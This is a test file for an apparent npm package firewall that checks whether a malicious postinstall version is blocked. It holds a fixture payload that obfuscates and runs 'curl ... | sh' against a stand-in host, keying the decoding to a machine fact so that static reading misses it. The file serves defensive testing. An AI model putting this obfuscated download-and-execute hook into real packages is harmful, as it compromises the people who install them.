import { createWorld, usualStart } from "@lockkeeper/detonate";
import type { FakeRegistry } from "@lockkeeper/drill";
import { createDrillWorld, FakeClock, startFakeRegistry } from "@lockkeeper/drill";
import { afterAll, beforeAll, expect, test } from "vitest";
import { commonScript } from "../../packages/drill/src/replicas/guard.ts";
import { ask, jsonOf } from "../support/ask.ts";
import type { ClientFirewall } from "./support/client-firewall.ts";
import { startClientFirewall } from "./support/client-firewall.ts";
import { clientOf } from "./support/clients.ts";
import { runClient } from "./support/run-client.ts";
import { createWorkplace } from "./support/workplace.ts";

const timeout = 180_000;
/** Neither age nor any report speaks against the version: what is left is to look at it. */
const policy = "version: 1\ncooldown: { effect: off }\n";
const command = "curl -s http://collector.invalid/stage | sh";

/** What it starts is hidden behind a fact of the machine, which reading cannot know. */
const payload = commonScript(`
const key = require("os").homedir().length > 0 ? 1 : 2;
const letters = ${JSON.stringify(Array.from(Buffer.from(command), (letter) => letter + 1))};
let line = "";
for (const letter of letters) line += String.fromCharCode(letter - key);
require("child_process").exec(line);
`);

let registry: FakeRegistry;
let firewall: ClientFirewall;

beforeAll(async () => {
  const clock = new FakeClock("2026-06-10T12:00:00Z");
  registry = await startFakeRegistry({ clock });
  registry.publish({ name: "steady", version: "1.0.0" }, { at: "2024-01-01T00:00:00Z" });
  registry.publish(
    { name: "steady", version: "1.0.1", scripts: { postinstall: "node setup.js" } },
    { at: "2026-06-10T11:00:00Z", files: [{ path: "setup.js", content: payload }] },
  );
  firewall = await startClientFirewall({
    upstream: registry.url,
    clock,
    policy,
    // Inert payloads go on where their guard is.
    pretendedWorlds: [createDrillWorld(createWorld("linux-laptop", usualStart))],
  });
}, timeout);

afterAll(async () => {
  await firewall.close();
  await registry.close();
});

test(
  "npm tells what was seen in the emulator of the exact version that it is refused",
  { timeout },
  async () => {
    const client = clientOf("npm");
    const workplace = await createWorkplace(client);

    const args = [...client.add, "steady@1.0.1"];
    const run = await runClient({ client, workplace, origin: firewall.url, args });
    await workplace.dispose();

    expect(run.exitCode, run.output).not.toBe(0);
    expect(run.output).toContain("Lockkeeper withholds steady 1.0.1: inspect");
    expect(run.output.replaceAll(/\s+/g, " ")).toContain(
      "In the emulator it downloads something and runs it",
    );
  },
);

test("the decision names what was seen with the command as it was, and the ledger what was withheld", async () => {
  const explained = jsonOf(await ask(firewall.url, "/-/lockkeeper/decision/steady/1.0.1"));
  const rows = await firewall.ledger({ kind: "packument", package: "steady" });

  const text = JSON.stringify(explained);
  expect(explained).toMatchObject({ decision: "block", clause: "inspect" });
  expect(text).toContain("download-executed");
  expect(text).toContain(command);
  expect(rows.map(({ withheld }) => withheld)).toEqual([["1.0.1"]]);
  expect(firewall.logged).toEqual([]);
});
